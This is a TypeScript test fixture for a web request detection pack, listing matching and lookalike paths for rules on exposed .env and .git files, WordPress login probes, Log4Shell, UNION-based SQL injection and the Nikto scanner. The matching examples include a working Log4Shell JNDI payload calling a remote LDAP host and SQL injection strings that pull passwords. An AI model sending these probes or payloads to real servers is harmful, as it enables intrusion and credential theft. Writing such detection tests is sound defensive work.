interface Examples {
  /** Targets (and agents, behind "agent: ") that must match. */
  matches: string[]
  /** Such that look alike and must not. */
  passes: string[]
}

/** For every entry of the pack, by its name. */
export const EXAMPLES: Record<string, Examples> = {
  'environment-file': {
    matches: ['/.env', '/api/.env.production', '/%2eenv', '/.ENV', '/prod.env'],
    passes: ['/environment', '/docs/env', '/.well-known/env', '/x?next=/.env'],
  },
  'version-control': {
    matches: ['/.git/config', '//.git//HEAD', '/site/.svn/entries', '/.git'],
    passes: ['/team/tool.git/info/refs', '/.gitignore', '/git/config'],
  },
  'wordpress-login': {
    matches: ['/wp-login.php', '/blog/wp-admin/'],
    passes: ['/wp-login', '/help/wp-admin-guide'],
  },
  log4shell: {
    matches: ['/?x=${jndi:ldap://203.0.113.9/a}', 'agent: ${jndi:ldap://203.0.113.9/a}'],
    passes: ['/docs/jndi', '/?q=jndi:ldap'],
  },
  'sql-injection-union': {
    matches: [
      "/item?id=1'+UNION+SELECT+1,2,3--",
      '/item?id=-1%20union%20all%20select%20null',
      '/item?id=1/**/union/**/select/**/password/**/from/**/users',
    ],
    passes: ['/blog/select-a-union', '/?q=union+select+committee'],
  },
  nikto: {
    matches: ['agent: Mozilla/5.00 (Nikto/2.1.5) (Evasions:None) (Test:getinfo)'],
    passes: ['agent: Mozilla/5.0 (X11; Linux x86_64) Niktopus/1.0'],
  },
}
